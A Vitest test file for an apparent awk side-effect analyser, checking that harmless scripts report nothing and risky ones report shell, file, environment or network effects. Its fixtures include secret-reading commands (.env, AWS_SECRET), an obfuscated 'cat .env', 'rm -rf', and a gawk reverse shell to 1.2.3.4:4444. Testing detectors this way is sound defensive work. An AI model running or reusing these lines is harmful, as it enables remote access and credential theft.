import { describe, expect, it } from "vitest";
import { told } from "../flow/told.ts";
import { readAwk } from "./index.ts";

describe("awk", () => {
  it.each([
    "{print $1}",
    "NR==1{next} /foo/{c++} END{print c/NR}",
    'BEGIN{FS=":"; OFS="\\t"} {print $1, $NF}',
    '{a[$1]+=$2} END{for(k in a) printf "%s %d\\n", k, a[k]}',
    "!seen[$0]++",
    "length > 80",
    "NR%2{print}",
    "$3 ~ /^[0-9]+$/ && $3 > 100 {sum += $3} END{print sum/NR}",
    '{gsub(/[/"]/,""); print $2/$3}',
    'function f(a, b,  i) { for (i = 0; i < a; i++) b = b "x"; return b } { print f($1, "") }',
    '/start/,/end/ { print NR": "$0 }',
    '{ $1=""; sub(/^ +/, ""); print toupper(substr($0, 1, 1)) tolower(substr($0, 2)) }',
    "BEGIN { while ((getline line) > 0) n++; print n }",
    "{ if (match($0, /[a-z]+@[a-z.]+/)) print substr($0, RSTART, RLENGTH); else next }",
    'BEGIN { printf "%5.2f|%-10s|%c\\n", 3.14159, "x", 65; exit 0 }',
    '{ split($0, p, ","); n = asort(p); for (i = n; i >= 1; i--) print p[i] }',
    'NF { $1 = $1; print } # comment with system("id")',
    'BEGIN { RS = ""; FS = "\\n" } { print $1 ? $1 : "none" }',
    "{ delete a; a[1] = 2; if (!(3 in a)) print length(a) / 2 }",
    "$1 > 5 { print } $2 >= 3 || $2 < 1",
    'BEGIN { srand(); print int(rand() * 100), strftime("%Y"), systime() }',
    "{ sum = (a) / 2; x /= 3; y = $1 / $2 / $3 } END { print sum }",
    'switch ($1) { case /a\\/b/: print; break; default: print "x" }',
    '@namespace "x"\nBEGIN { awk::print_it = 1; print awk::NR }',
  ])("ordinary work has no effect: %s", (text) => {
    expect(told(readAwk(text))).toBe("");
  });

  it.each([
    ['{ print > "/dev/stderr" }', "write /dev/stderr"],
    ['BEGIN{system("id")}', "shell id"],
    ['BEGIN{system("rm -rf " $1)}', "shell rm -rf {?}"],
    ['{print > "out.txt"}', "write out.txt"],
    ['{print $1 > $2".txt"}', "write {?}.txt"],
    ['{ printf("%s", $0) >> ("log" ".txt") }', "write log.txt"],
    ['{print $1 | "sort -u"}', "shell sort -u"],
    ['BEGIN { cmd = "cat .env"; while ((cmd | getline l) > 0) print l; close(cmd) }', "shell cat .env"],
    ['BEGIN{while((getline l < ".env")>0)print l}', "read .env"],
    ['BEGIN{f="." "env"; while((getline x < f)>0) print x}', "read .env"],
    ['BEGIN{getline x < "a" ".txt"; getline arr[1] < "b"; getline < "c"; getline $2 < "d"}', "read a.txt; read a; read b; read c; read d"],
    ['BEGIN{"date"|getline d; print d}', "shell date"],
    ['BEGIN{ARGV[1]=".env";ARGC=2}{print}', "read .env"],
    ["BEGIN { ARGV[ARGC++] = x }", "read ?"],
    ['BEGIN { sub(/x/, ".env", ARGV[1]) }', "read ?"],
    ['BEGIN{print ENVIRON["AWS_SECRET"]; for (k in ENVIRON) print k}', "environment AWS_SECRET; environment *"],
    [
      'BEGIN{s="/inet/tcp/0/1.2.3.4/4444"; while(1){do{printf "$ " |& s; s |& getline c; while((c |& getline)>0) print $0 |& s; close(c)} while(c!="exit")}}',
      "raw connect 1.2.3.4:4444; raw send 1.2.3.4:4444; raw connect 1.2.3.4:4444; raw send 1.2.3.4:4444; shell ?; raw connect 1.2.3.4:4444; raw send 1.2.3.4:4444; shell-over-network",
    ],
    ['BEGIN { s = "/inet/tcp/8080/0/0"; s |& getline x }', "listen; listen"],
    ['BEGIN { x = "system"; @x("id") }', "unknown; unknown"],
    ['@load "filefuncs"; BEGIN { chdir("/") }', "unknown; unknown"],
    ['@include "lib.awk"', "load lib.awk"],
    ['{ if (1) /"/; system("id") ; /"/ }', "shell id"],
    ["BEGIN { frobnicate(1) }", "unknown"],
    ['BEGIN{c=sprintf("%c%c%c",99,97,116);system(c " .env")}', "shell cat .env"],
    ['{ print | "sh" }', "shell sh"],
    ['BEGIN { print "x" | "cat 1>&2" }', "shell cat 1>&2"],
    ['awk::system("id")', "shell id"],
    ['BEGIN { print "a', "unknown; unknown"],
    ['BEGIN { x = /a/ ? "b" : "c"; system(x) }', "shell ?"],
    ['{ cmd = "a"; cmd = "b"; system(cmd) }', "shell ?"],
    ['BEGIN { system(tolower("ID")) }', "shell id"],
  ])("%s", (text, expected) => {
    expect(told(readAwk(text))).toBe(expected);
  });
});
